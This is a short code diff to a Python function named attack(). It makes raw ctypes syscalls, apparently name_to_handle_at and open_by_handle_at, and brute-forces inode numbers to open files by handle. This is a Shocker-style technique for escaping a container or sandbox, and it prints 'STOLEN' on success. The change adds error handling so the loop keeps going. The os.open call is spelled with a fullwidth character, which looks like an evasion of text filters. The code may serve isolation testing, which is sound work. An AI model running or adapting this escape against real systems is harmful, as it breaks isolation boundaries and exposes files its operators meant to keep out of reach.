@@ -37,7 +37,11 @@ def attack():
         handle, mount = ctypes.create_string_buffer(struct.pack('Ii', 128, 0), 136), ctypes.c_int()
         if call(303, 264, -100, place, handle, ctypes.addressof(mount), 0) >= 0:
             print(f'STOLEN could ask for the handle of {place}', flush=True)
-        folder = os.ｏpen(place, os.O_RDONLY)
+        try:
+            folder = os.ｏpen(place, os.O_RDONLY)
+        except OSError as error:
+            print(repr(error), flush=True)
+            continue
         for inode in (1, 2, 32, 64, 128, 256):
             guess = ctypes.create_string_buffer(struct.pack('IiII', 8, 1, inode, 0))
             found = call(304, 265, folder, guess, os.O_RDONLY)
